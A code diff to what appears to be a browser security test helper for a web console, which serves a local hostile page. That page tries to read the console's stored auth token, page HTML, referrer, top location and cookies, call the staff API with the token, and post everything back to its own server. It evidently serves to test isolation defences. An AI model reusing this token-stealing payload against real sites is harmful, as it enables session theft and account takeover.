@@ -4,11 +4,10 @@ import type { AddressInfo } from 'node:net'
 
 /** Another site, over https, whose page tries to take what is the console's. */
 export interface HostileSite {
+  /** Its page; at `/control` the same page in a frame without a sandbox, of its own origin. */
   readonly address: string
   /** What each attempt of a page got, as its page told it; oldest first. */
   readonly told: readonly Readonly<Record<string, string>>[]
-  /** The page that tries, to be put anywhere. */
-  readonly page: string
   close(): Promise<void>
 }
 
@@ -17,12 +16,13 @@ export async function openHostileSite(api: string): Promise<HostileSite> {
   let page = ''
   const server = createServer(selfSigned(), async (request, response) => {
     if (request.method === 'POST') {
-      const parts = await Array.fromAsync(request)
+      const parts: Uint8Array[] = []
+      for await (const part of request) parts.push(part)
       told.push(JSON.parse(Buffer.concat(parts).toString()))
     }
-    response
-      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
-      .end(request.url === '/' ? page : 'Otra página')
+    const pages: Readonly<Record<string, string>> = { '/': page, '/control': '<iframe src="/"></iframe>' }
+    const body = pages[request.url ?? ''] ?? 'Otra página'
+    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body)
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   const address = `https://127.0.0.1:${(server.address() as AddressInfo).port}`
@@ -30,7 +30,6 @@ export async function openHostileSite(api: string): Promise<HostileSite> {
   return {
     address,
     told,
-    page,
     close: () => new Promise((resolve) => (server.closeAllConnections(), server.close(() => resolve()))),
   }
 }
@@ -43,10 +42,14 @@ async function attack([home, api]: [string, string]) {
   const token = () => parent.localStorage.getItem('laurel.token')
   const attempts: Record<string, () => unknown> = {
     'token of the console': token,
-    'document of the console': () => parent.document.title,
+    'document of the console': () => parent.document.body.innerHTML,
+    'address it was opened from': () => document.referrer,
     'address of the tab': () => top?.location.href,
     storage: () => Object.keys(localStorage).length + 1,
-    cookies: () => (document.cookie = 'a=1') && document.cookie,
+    cookies: () => {
+      document.cookie = 'a=1'
+      return document.cookie
+    },
     'call of the API': async () =>
       (await fetch(`${api}/staff/me`, { headers: { authorization: `Bearer ${token()}` } })).ok,
     'form sent to the API': async () => {
@@ -70,7 +73,11 @@ async function attack([home, api]: [string, string]) {
     }
   }
   await fetch(`${home}/told`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) })
-  if (top) top.location.href = `${home}/elsewhere`
+  try {
+    if (top) top.location.href = `${home}/elsewhere`
+  } catch {
+    // Where it may not, it stays.
+  }
 }
 
 /** The smallest certificate that a browser reads, which nobody vouches for. */
